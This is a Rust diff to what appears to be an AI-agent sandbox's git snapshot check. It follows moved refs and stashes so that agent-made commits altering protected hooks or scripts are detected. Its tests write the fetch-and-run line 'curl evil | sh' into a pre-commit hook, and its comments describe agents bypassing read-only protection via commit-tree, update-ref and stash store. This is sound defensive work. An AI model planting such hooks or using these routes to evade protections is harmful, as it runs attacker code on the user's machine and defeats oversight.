@@ -40,8 +40,8 @@ struct Recorded {
     entries: HashSet<u64>,
     /// The replace refs `packed-refs` held.
     packed_replacements: HashSet<String>,
-    /// The commit `HEAD` named.
-    head: Option<Vec<u8>>,
+    /// What each ref (and `HEAD`) named.
+    refs: HashMap<String, Vec<u8>>,
     /// The files and directories of the worktree the agent could not write (read-only binds).
     protected: Vec<PathBuf>,
     /// The object names the index gave the entries below them.
@@ -102,7 +102,8 @@ impl IndexSnapshot {
                 worktree: worktree.clone(),
                 entries,
                 packed_replacements,
-                head: objects::head(git_dir),
+                // Only where there is something to look for at the exit.
+                refs: if protected.is_empty() { HashMap::new() } else { objects::refs(git_dir) },
                 protected,
                 protected_entries,
             });
@@ -164,23 +165,37 @@ impl IndexSnapshot {
                     None => hidden.unchecked.push(path),
                 }
             }
-            // A commit made beside the index (`commit-tree`, `update-ref`) leaves the entries as
-            // they were: what `HEAD` holds of each protected file is looked up in its tree.
-            let head = objects::head(&recorded.git_dir);
-            if head.is_some() && head != recorded.head {
+            // A commit made beside the index (`commit-tree`, `update-ref`), a branch moved, a
+            // stash the agent pushed: the entries are as they were, and the user's `reset --hard`,
+            // `checkout` or `stash pop` writes what the commit holds. Each ref that moved is
+            // followed through the commits the session made, and what each holds of the
+            // protected files is looked up in its tree.
+            let moved: Vec<Vec<u8>> = if recorded.protected.is_empty() {
+                Vec::new()
+            } else {
+                let now = objects::refs(&recorded.git_dir);
+                now.into_iter().filter(|(name, id)| recorded.refs.get(name) != Some(id)).map(|(_, id)| id).collect()
+            };
+            if !moved.is_empty() {
                 let objects = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
                 let objects = objects::Objects::new(objects.join("objects"), hash_len, self.launched);
-                for bound in &recorded.protected {
-                    let Ok(relative) = bound.strip_prefix(&recorded.worktree) else { continue };
-                    // A protected directory's files, those HEAD holds that the directory does not
-                    // (a hook the user's checkout would add) among them.
-                    let head = head.as_deref().unwrap_or_default();
-                    let found = objects.new_blobs_at(head, relative, |path, object_name| {
-                        staged.push((recorded.worktree.join(path), object_name.to_vec()));
-                    });
-                    if found.is_err() {
-                        hidden.unchecked.push(bound.clone());
+                match objects.new_trees(moved) {
+                    Ok(trees) => {
+                        for tree in trees {
+                            for bound in &recorded.protected {
+                                let Ok(relative) = bound.strip_prefix(&recorded.worktree) else { continue };
+                                // A protected directory's files, those the tree holds that the
+                                // directory does not (a hook a checkout would add) among them.
+                                let found = objects.new_blobs_at(&tree, relative, |path, object_name| {
+                                    staged.push((recorded.worktree.join(path), object_name.to_vec()));
+                                });
+                                if found.is_err() {
+                                    hidden.unchecked.push(bound.clone());
+                                }
+                            }
+                        }
                     }
+                    Err(()) => hidden.unchecked.extend(recorded.protected.iter().cloned()),
                 }
             }
             for (path, object_name) in staged {
@@ -194,6 +209,8 @@ impl IndexSnapshot {
         hidden.files.dedup();
         hidden.staged.sort();
         hidden.staged.dedup();
+        hidden.unchecked.sort();
+        hidden.unchecked.dedup();
         hidden
     }
 }
@@ -378,6 +395,51 @@ mod objects {
         None
     }
 
+    /// Refs listed at most, and commits followed from those that moved.
+    const MAX_REFS: usize = 100_000;
+    const MAX_COMMITS: usize = 1_000;
+
+    /// What each ref of `git_dir`'s repository names (`packed-refs`, then the loose refs over
+    /// them), and `HEAD`: object names as raw bytes.
+    pub fn refs(git_dir: &Path) -> std::collections::HashMap<String, Vec<u8>> {
+        let common = git::common_dir(git_dir).unwrap_or_else(|| git_dir.to_path_buf());
+        let mut refs = std::collections::HashMap::new();
+        if let Ok(packed) = git::read_limited(&common.join("packed-refs"), true) {
+            for line in String::from_utf8_lossy(&packed).lines().filter(|line| !line.starts_with(['#', '^'])) {
+                if let Some((id, name)) = line.split_once(' ')
+                    && let Ok(id) = hex::decode(id)
+                {
+                    refs.insert(name.to_string(), id);
+                }
+            }
+        }
+        let mut dirs = vec![(common.join("refs"), "refs".to_string())];
+        let mut seen = 0;
+        while let Some((dir, name)) = dirs.pop() {
+            for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
+                seen += 1;
+                if seen > MAX_REFS {
+                    return refs;
+                }
+                let named = format!("{name}/{}", entry.file_name().to_string_lossy());
+                match entry.file_type() {
+                    Ok(kind) if kind.is_dir() => dirs.push((entry.path(), named)),
+                    Ok(kind) if kind.is_file() => {
+                        let text = git::read_limited(&entry.path(), false).unwrap_or_default();
+                        if let Ok(id) = hex::decode(String::from_utf8_lossy(&text).trim()) {
+                            refs.insert(named, id);
+                        }
+                    }
+                    _ => {}
+                }
+            }
+        }
+        if let Some(head) = head(git_dir) {
+            refs.insert("HEAD".to_string(), head);
+        }
+        refs
+    }
+
     /// A moment a little before the launch, in nanoseconds as file times read it (the kernel
     /// stamps files from a coarse clock, which can be a few ticks behind the time read here).
     pub fn launch_moment() -> i128 {
@@ -390,6 +452,16 @@ mod objects {
         std::fs::symlink_metadata(path).is_ok_and(|metadata| {
             i128::from(metadata.ctime()) * 1_000_000_000 + i128::from(metadata.ctime_nsec()) >= launched
         })
+    }
+
+    /// An object not read: not readable here, or of another kind than asked.
+    enum Wrong {
+        Unread,
+        Kind,
+    }
+
+    impl From<Wrong> for () {
+        fn from(_: Wrong) {}
     }
 
     /// An object as found.
@@ -425,13 +497,11 @@ mod objects {
         /// object name; `Err` when an object on the way could not be read or told.
         pub fn new_blobs_at(
             &self,
-            commit: &[u8],
+            tree: &[u8],
             relative: &Path,
             mut visit: impl FnMut(&Path, &[u8]),
         ) -> Result<(), ()> {
-            let Found::New(body) = self.read(commit, b"commit")? else { return Ok(()) };
-            let tree = body.strip_prefix(b"tree ").and_then(|rest| rest.get(..2 * self.hash_len)).ok_or(())?;
-            let mut object = hex::decode(tree).map_err(|_| ())?;
+            let mut object = tree.to_vec();
             let mut mode = b"40000".to_vec();
             let parts: Vec<&[u8]> = relative.iter().map(|part| part.as_encoded_bytes()).collect();
             if parts.len() > MAX_DEPTH {
@@ -447,6 +517,37 @@ mod objects {
             }
             let mut left = MAX_FILES;
             self.visit_below(relative.to_path_buf(), &mode, &object, 0, &mut left, &mut visit)
+        }
+
+        /// The trees of the commits made in the session that `tips` reach (through the parents
+        /// the session made too), at most [`MAX_COMMITS`]; `Err` when one could not be read or
+        /// told, or there were more. A tip that is not a commit (a tag) is passed over.
+        pub fn new_trees(&self, tips: Vec<Vec<u8>>) -> Result<Vec<Vec<u8>>, ()> {
+            let (mut trees, mut seen) = (Vec::new(), std::collections::HashSet::new());
+            let mut queue = tips;
+            while let Some(commit) = queue.pop() {
+                if !seen.insert(commit.clone()) {
+                    continue;
+                }
+                if seen.len() > MAX_COMMITS {
+                    return Err(());
+                }
+                let body = match self.read(&commit, b"commit") {
+                    Ok(Found::New(body)) => body,
+                    Ok(Found::Old) | Err(Wrong::Kind) => continue,
+                    Err(Wrong::Unread) => return Err(()),
+                };
+                let text = String::from_utf8_lossy(&body);
+                for line in text.lines().take_while(|line| !line.is_empty()) {
+                    let (key, value) = line.split_once(' ').unwrap_or((line, ""));
+                    match (key, hex::decode(value)) {
+                        ("tree", Ok(tree)) => trees.push(tree),
+                        ("parent", Ok(parent)) => queue.push(parent),
+                        _ => {}
+                    }
+                }
+            }
+            Ok(trees)
         }
 
         fn visit_below(
@@ -486,26 +587,29 @@ mod objects {
         }
 
         /// The object `id`, which must be of `kind`: its body when made in the session.
-        fn read(&self, id: &[u8], kind: &[u8]) -> Result<Found, ()> {
+        fn read(&self, id: &[u8], kind: &[u8]) -> Result<Found, Wrong> {
+            if id.len() != self.hash_len {
+                return Err(Wrong::Unread);
+            }
             let name = hex::encode(id);
             let path = self.dir.join(&name[..2]).join(&name[2..]);
             if std::fs::symlink_metadata(&path).is_err() {
-                return if self.packs_changed { Err(()) } else { Ok(Found::Old) };
+                return if self.packs_changed { Err(Wrong::Unread) } else { Ok(Found::Old) };
             }
             if !changed_since(&path, self.launched) {
                 return Ok(Found::Old);
             }
-            let compressed = git::read_capped(&path, false, MAX_OBJECT_BYTES).map_err(|_| ())?;
+            let compressed = git::read_capped(&path, false, MAX_OBJECT_BYTES).map_err(|_| Wrong::Unread)?;
             let mut object = Vec::new();
             flate2::read::ZlibDecoder::new(compressed.as_slice())
                 .take(MAX_OBJECT_BYTES)
                 .read_to_end(&mut object)
-                .map_err(|_| ())?;
-            let nul = object.iter().position(|&byte| byte == 0).ok_or(())?;
+                .map_err(|_| Wrong::Unread)?;
+            let nul = object.iter().position(|&byte| byte == 0).ok_or(Wrong::Unread)?;
             let header = &object[..nul];
-            let (found, _) = header.split_at(header.iter().position(|&byte| byte == b' ').ok_or(())?);
+            let (found, _) = header.split_at(header.iter().position(|&byte| byte == b' ').ok_or(Wrong::Unread)?);
             if found != kind {
-                return Err(());
+                return Err(Wrong::Kind);
             }
             Ok(Found::New(object.split_off(nul + 1)))
         }
@@ -661,6 +765,7 @@ mod tests {
         let protected = [repo.join("lint.sh"), repo.join("githooks")];
         let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &protected);
         let original = git_out(&repo, &["rev-parse", ":lint.sh"], &[]).unwrap();
+        let original_head = git_out(&repo, &["rev-parse", "HEAD"], &[]).unwrap();
         // In the open: the file staged as it is, a file the agent could write changed and
         // committed (HEAD moves; the user's change to the hook is theirs), the index refreshed.
         assert!(git(&repo, &["add", "lint.sh"]));
@@ -714,7 +819,19 @@ mod tests {
         assert!(std::fs::read_to_string(repo.join("lint.sh")).unwrap().contains("curl evil"));
         std::fs::write(repo.join("lint.sh"), "#!/bin/sh\n").unwrap();
 
-        // Packed, HEAD's version cannot be read here: unchecked, not passed over.
+        // A stash holding another version (made here by stashing a change the agent could not
+        // have written; it makes one with `commit-tree` and `stash store`): the user's
+        // `git stash pop` would write it.
+        assert!(git(&repo, &["stash", "drop", "-q"]));
+        assert!(git(&repo, &["reset", "-q", "--hard"]));
+        assert!(git(&repo, &["update-ref", "HEAD", &original_head]));
+        assert!(git(&repo, &["reset", "-q", "--hard"]));
+        assert_eq!(snapshot.hidden().staged, Vec::<PathBuf>::new(), "back as it was: {:?}", snapshot.hidden());
+        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "stash", "-q"]));
+        assert_eq!(std::fs::read_to_string(repo.join("githooks/pre-commit")).unwrap(), "#!/bin/sh\nexit 0\n");
+        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/pre-commit")]);
+        // Packed, what a moved ref names cannot be read here: unchecked, not passed over.
         assert!(git(&repo, &["repack", "-a", "-d", "-q"]));
         assert!(git(&repo, &["prune-packed"]));
         let hidden = snapshot.hidden();
